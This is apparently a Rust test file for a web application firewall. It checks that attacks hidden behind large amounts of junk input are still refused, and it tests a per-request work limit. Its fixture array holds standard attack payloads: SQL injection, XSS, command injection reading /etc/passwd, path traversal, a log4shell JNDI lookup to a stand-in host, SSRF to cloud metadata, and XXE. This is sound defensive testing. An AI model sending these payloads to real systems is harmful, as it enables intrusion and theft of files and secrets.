//! What a request may cost: an attack behind whatever junk is found, or the request is refused; never neither.

#[cfg(test)]
mod support;

use std::rc::Rc;

use backstop_waf::Policy;
use support::{Case, Run, get, post};

const LIMITED: &str = "REQUEST:work-limit";

/// Junk that makes readers begin anew at every turn, and some that people write.
const JUNK: [&[u8]; 12] = [
    b";",
    b"if (\n",
    b"<a b='<a b=\"",
    b"<style><",
    b"<a href=data:",
    b"'||'",
    b"|a ",
    b"[$ne]",
    b"{%",
    b"../",
    b"&lt",
    b"The train leaves at nine and comes back late. ",
];

/// An attack of each kind, as it stands in a form field.
const ATTACKS: [(&str, &str); 7] = [
    ("sql", "1' union select login, secret from users-- "),
    ("xss", "<script>alert(document.cookie)</script>"),
    ("command", "x;cat /etc/passwd"),
    ("path", "../../../../etc/passwd"),
    ("log4shell", "${jndi:ldap://evil.example/a}"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/"),
    (
        "xxe",
        "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
    ),
];

fn repeated(pattern: &[u8], size: usize) -> Vec<u8> {
    pattern.iter().copied().cycle().take(size).collect()
}

fn form_encoded(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("%{byte:02X}")).collect()
}

fn json_string(bytes: &[u8]) -> String {
    serde_json::Value::from(String::from_utf8_lossy(bytes)).to_string()
}

/// Junk and then the attack, as two fields of a form, two members of JSON and two parts of a multipart body.
fn bodies(junk: &[u8], attack: &str) -> [(&'static str, String); 3] {
    let plain = String::from_utf8_lossy(junk);
    [
        (
            "application/x-www-form-urlencoded",
            format!(
                "a={}&b={}",
                form_encoded(junk),
                form_encoded(attack.as_bytes())
            ),
        ),
        (
            "application/json",
            format!(
                "{{\"a\":{},\"b\":{}}}",
                json_string(junk),
                json_string(attack.as_bytes())
            ),
        ),
        (
            "multipart/form-data; boundary=frontier",
            format!(
                "--frontier\r\ncontent-disposition: form-data; name=a\r\n\r\n{plain}\r\n\
                 --frontier\r\ncontent-disposition: form-data; name=b\r\n\r\n{attack}\r\n--frontier--\r\n"
            ),
        ),
    ]
}

fn is_refused(run: &Run) -> bool {
    match run.status {
        Some(403) => true,
        Some(413) => run.blocked_by() == LIMITED && run.work_limit_hits == 1,
        _ => false,
    }
}

#[test]
fn an_attack_behind_a_hundred_kilobytes_of_junk_is_never_let_through() {
    // The form is three times as long for its encoding.
    let policy = Policy::from_json(br#"{"requestBody":{"limit":"512KiB"}}"#).unwrap();
    let policy = Rc::new(policy);
    // Every junk with some attacks, every attack with some junk.
    for (index, pattern) in JUNK.iter().enumerate() {
        let junk = repeated(pattern, 100 << 10);
        for (name, attack) in ATTACKS.iter().cycle().skip(index).take(2) {
            let all = bodies(&junk, attack);
            let (content_type, body) = &all[index % all.len()];
            let run = post("/", content_type, body).run_on(&policy);
            let what = format!("{name} behind {} as {content_type}", pattern.escape_ascii());
            assert!(is_refused(&run), "{what}: {:?} {}", run.status, run.details);
        }
    }
}

#[test]
fn an_attack_among_thousands_of_values_is_never_let_through() {
    let policy = Rc::new(Policy::from_json(b"").unwrap());
    for junk in ["%3Ca+b%3D%27", "%27or+", "%3Bif+(", "%2E%2E%2F%2F", "x"] {
        for (name, attack) in ATTACKS {
            let fields = format!("a={junk}&").repeat((60 << 10) / (junk.len() + 3));
            let body = format!("{fields}b={}", form_encoded(attack.as_bytes()));
            let form = "application/x-www-form-urlencoded";
            let run = post("/", form, body).run_on(&policy);
            assert!(is_refused(&run), "{name} among {junk}: {}", run.details);
        }
    }
}

#[test]
fn what_people_write_is_far_from_the_limit() {
    let policy = Policy::from_json(br#"{"workLimit":{"steps":1500000}}"#).unwrap();
    let policy = Rc::new(policy);
    let prose = repeated(JUNK[11], 100 << 10);
    for (content_type, body) in bodies(&prose, "and that is all.") {
        if !content_type.contains("urlencoded") {
            let run = post("/", content_type, body).run_on(&policy);
            assert_eq!(
                (run.status, run.work_limit_hits),
                (None, 0),
                "{content_type}"
            );
        }
    }
}

/// A request that is more work than the least limit allows.
fn dear() -> Case {
    post("/", "text/plain", repeated(b"<a b='<a b=\"", 32 << 10)).chunks(1000)
}

#[test]
fn beyond_the_limit_a_request_is_refused_told_or_let_through_by_what_was_found() {
    let reject = r#"{"workLimit":{"steps":100000}}"#;
    let run = dear().run(reject);
    assert_eq!(run.status, Some(413));
    assert_eq!(run.details, "backstop_waf{REQUEST:work-limit}");
    let line = run.line();
    assert_eq!(line["event"], "REQUEST_UNINSPECTED");
    assert_eq!(line["rule"], "work-limit");
    assert_eq!(line["blocked"], true);

    let detect = r#"{"mode":"detect","workLimit":{"steps":100000}}"#;
    let run = dear().run(detect);
    assert_eq!((run.status, run.work_limit_hits), (None, 1));
    assert!(
        run.reports
            .iter()
            .any(|report| report.verdict() == "detect:REQUEST:work-limit")
    );

    let pass = r#"{"workLimit":{"steps":100000,"onLimit":"inspectPrefix"}}"#;
    let harmless = post("/", "text/plain", repeated(b"a=1; if (\n", 60 << 10));
    let run = harmless.run(pass);
    assert_eq!((run.status, run.work_limit_hits), (None, 1));
    assert_eq!(run.reports[0].verdict(), "pass:REQUEST:work-limit");
    assert_eq!(run.lines.len(), 1);

    // What stood before counts.
    let found = post(
        "/",
        "application/x-www-form-urlencoded",
        [
            b"a=%3Cscript%3Ealert(1)%3C/script%3E&b=".to_vec(),
            repeated(b"<a b='<a b=\"", 32 << 10),
        ]
        .concat(),
    );
    assert_eq!(found.run(pass).blocked_by(), "XSS:xss-script-tag");
    assert_eq!(found.run(reject).blocked_by(), "XSS:xss-script-tag");
}

#[test]
fn headers_and_body_share_the_limit_and_each_request_has_its_own() {
    let policy = Rc::new(Policy::from_json(br#"{"workLimit":{"steps":100000}}"#).unwrap());
    let fields = |count: usize| "a=x%3B+y+(z&".repeat(count);
    let query = |count: usize| get(&format!("/?{}", fields(count))).run_on(&policy);
    let form = "application/x-www-form-urlencoded";
    let enough = (1..200)
        .map(|tens| 10 * tens)
        .find(|count| query(*count).work_limit_hits > 0)
        .unwrap();
    for _ in 0..2 {
        let run = query(enough);
        assert_eq!((run.status, run.phase), (Some(413), "headers"));
        assert_eq!(run.blocked_by(), LIMITED);
        let run = query(1);
        assert_eq!((run.status, run.work_limit_hits), (None, 0));
    }
    // Two thirds of it in the path, two thirds in the body.
    let part = enough * 2 / 3;
    let body = post("/", form, fields(part));
    assert_eq!(query(part).work_limit_hits, 0);
    assert_eq!(body.run_on(&policy).work_limit_hits, 0);
    let both = Case {
        path: format!("/?{}", fields(part)),
        ..body
    };
    let run = both.run_on(&policy);
    assert_eq!((run.status, run.phase), (Some(413), "body"));
}

#[test]
fn a_limit_that_cannot_be_is_refused_with_its_path() {
    let refused = |json: &str| Policy::from_json(json.as_bytes()).unwrap_err().to_string();
    let message = refused(r#"{"workLimit":{"steps":5}}"#);
    assert!(message.contains("$.workLimit.steps"), "{message}");
    assert!(message.contains("100000"), "{message}");
    let message = refused(r#"{"workLimit":{"onLimit":"pass"}}"#);
    assert!(message.contains("$.workLimit.onLimit"), "{message}");
}
